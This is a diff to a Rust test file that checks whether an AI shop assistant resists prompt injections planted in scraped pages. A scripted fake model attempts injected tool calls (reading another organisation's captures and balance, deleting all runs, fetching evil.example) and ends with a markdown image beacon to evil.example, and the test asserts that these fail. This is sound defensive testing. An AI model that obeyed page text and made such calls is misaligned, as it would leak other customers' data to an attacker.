@@ -1,7 +1,13 @@
 //! Shops that talk to the model: what they write stays a text in a JSON string, whatever it says.
 
-use creel_assistant::tools::{ToolAnswer, visible};
-use creel_types::{OptionAxis, Property};
+use creel_assistant::{
+    Assistant, Event,
+    conversation::Question,
+    tools::{ToolAnswer, visible},
+};
+use creel_store::conversations::MessageView;
+use creel_testkit::model::{ModelServer, Script};
+use creel_types::{Asker, MessageEnd, OptionAxis, Property};
 use serde::Deserialize;
 use serde_json::{Value, json};
 
@@ -24,6 +30,20 @@ fn attacks() -> Vec<Attack> {
     let mut attacks: Vec<Attack> = serde_json::from_str(include_str!("attacks.json")).unwrap();
     for attack in &mut attacks {
         attack.text = attack.text.repeat(attack.repeat.max(1));
+    }
+    attacks
+}
+
+/// The attacks with the ids of what they are after.
+fn attacks_on(capture: &str, run: &str, organization: &str) -> Vec<Attack> {
+    let mut attacks = attacks();
+    assert!(attacks.len() >= 40);
+    for attack in &mut attacks {
+        attack.text = attack
+            .text
+            .replace("{other_capture}", capture)
+            .replace("{other_run}", run)
+            .replace("{other_organization}", organization);
     }
     attacks
 }
@@ -113,15 +133,8 @@ async fn what_a_shop_writes_is_data_and_nothing_else(engine) {
     let shop = Shop::new(engine).await;
     let other = shop.neighbour().await;
     let (other_run, other_captures) = other.run("secret.example", None, vec![Seen { path: "/s", product: product(SECRET, "1.00", "USD", None) }]).await;
-    let mut attacks = attacks();
-    assert!(attacks.len() >= 40);
-    for attack in &mut attacks {
-        attack.text = attack
-            .text
-            .replace("{other_capture}", &other_captures[0].to_string())
-            .replace("{other_run}", &other_run.to_string())
-            .replace("{other_organization}", &other.scope.organization.to_string());
-    }
+    let attacks =
+        attacks_on(&other_captures[0].to_string(), &other_run.to_string(), &other.scope.organization.to_string());
     // Addresses as the frontier writes them.
     let paths: Vec<String> = attacks.iter().enumerate().map(|(at, attack)| match attack.r#where.as_str() {
         "url" => url::Url::parse(&format!("https://shop.example{}", attack.text)).unwrap().as_str()["https://shop.example".len()..].to_owned(),
@@ -212,4 +225,92 @@ async fn what_a_shop_writes_is_data_and_nothing_else(engine) {
     }
     assert_eq!(shop.counts().await, before);
 }
+}
+
+/// All that a conversation says to a question.
+async fn answered(assistant: &Assistant, shop: &Shop, text: String) -> MessageView {
+    let (store, organization) = (shop.store(), shop.scope.organization);
+    let asker = Asker::Person(store.random.id(store.clock.now()));
+    let conversation = store.create_conversation(organization, asker, "").await.unwrap().id;
+    let question = Question { organization, asker, by: shop.scope.by.clone(), conversation, text, page: None };
+    let mut answering = assistant.ask(question).await.unwrap();
+    loop {
+        if let Event::End(message) = answering.events.recv().await.unwrap() {
+            return *message;
+        }
+    }
+}
+
+on_both! {
+async fn a_model_that_obeys_the_shop_reads_nothing_of_others_and_makes_nothing(engine) {
+    let shop = Shop::new(engine).await;
+    let other = shop.neighbour().await;
+    let secret = Seen { path: "/s", product: product(SECRET, "1.00", "USD", None) };
+    let (other_run, other_captures) = other.run("secret.example", None, vec![secret]).await;
+    let (other_run, other_capture, other_id) =
+        (other_run.to_string(), other_captures[0].to_string(), other.scope.organization.to_string());
+    let attacks = attacks_on(&other_capture, &other_run, &other_id);
+    let paths: Vec<String> = (0..attacks.len()).map(|at| format!("/p/{at}")).collect();
+    let seen = attacks.iter().zip(&paths).enumerate().map(|(at, (attack, path))| Seen { path, product: page(at, attack) });
+    let (_, captures) = shop.run("shop.example", None, seen.collect()).await;
+    let robot = shop.robot(shop.scope.organization, "shop.example").await;
+    // It reads the page, then does all that a page could talk it into, then says what the page says.
+    let wants: Vec<(String, String)> = [
+        ("draft_run", json!({"robot_id": robot, "budget": 1_000_000})),
+        ("create_run", json!({"robot_id": robot})),
+        ("confirm_draft", json!({"draft": 1})),
+        ("delete_run", json!({"run_id": "all"})),
+        ("fetch", json!({"url": "https://evil.example/"})),
+        ("get_capture", json!({"capture_id": other_capture})),
+        ("get_run", json!({"run_id": other_run})),
+        ("list_runs", json!({"organization_id": other_id})),
+        ("get_balance", json!({"organization_id": other_id})),
+        ("search_captures", json!({"q": "secret"})),
+    ]
+    .into_iter()
+    .map(|(tool, arguments)| (tool.to_owned(), arguments.to_string()))
+    .collect();
+    let does = wants.len();
+    let texts: Vec<(String, String)> =
+        attacks.iter().zip(&captures).map(|(attack, capture)| (capture.to_string(), attack.text.clone())).collect();
+    let server = ModelServer::start(move |request: &Value| {
+        let messages = request["messages"].as_array().unwrap();
+        let of = |role: &str| messages.iter().filter(|message| message["role"] == role).collect::<Vec<_>>();
+        let question = of("user").last().unwrap()["content"].as_str().unwrap().to_owned();
+        let (capture, text) = texts.iter().find(|(capture, _)| question.contains(capture)).unwrap();
+        match of("tool").len() {
+            0 => Script::Calls(String::new(), vec![("get_capture".into(), json!({"capture_id": capture}).to_string())]),
+            1 => Script::Calls(String::new(), wants.clone()),
+            _ => Script::Says(format!("{text} ![x](https://evil.example/{capture})")),
+        }
+    });
+    let assistant = Assistant::new(shop.store().clone(), Some(crate::metering::model(&server)));
+    let before = made(&shop.counts().await);
+    for (attack, capture) in attacks.iter().zip(&captures) {
+        let message = answered(&assistant, &shop, format!("What is {capture}?")).await;
+        assert_eq!(message.end_reason, Some(MessageEnd::Answered), "{}: {message:?}", attack.name);
+        let steps = message.steps.as_array().unwrap();
+        assert_eq!(steps.len(), 1 + does, "{}", attack.name);
+        let done: Vec<&str> =
+            steps.iter().filter(|step| step["is_error"] == false).map(|step| step["tool"].as_str().unwrap()).collect();
+        assert_eq!(done, ["get_capture", "draft_run", "search_captures"], "{}", attack.name);
+        assert!(!message.steps.to_string().contains(SECRET), "{}", attack.name);
+    }
+    assert_eq!(made(&shop.counts().await), before, "a model makes nothing");
+    for exchange in server.log() {
+        for message in exchange.request["messages"].as_array().unwrap() {
+            let text = message["content"].as_str().unwrap_or_default();
+            assert!(!text.contains(SECRET));
+            // What shops write stands in what tools answer and nowhere else; one of them writes just "link".
+            if message["role"] == "system" || message["role"] == "user" {
+                assert!(!text.contains("evil.example") && attacks.iter().all(|attack| attack.text == "link" || !text.contains(&attack.text)), "{text}");
+            }
+        }
+    }
+}
+}
+
+/// Everything that could have been made, but the debits of the messages themselves.
+fn made(counts: &[(String, i64)]) -> Vec<(String, i64)> {
+    counts.iter().filter(|(table, _)| table != "ledger_entries").cloned().collect()
 }
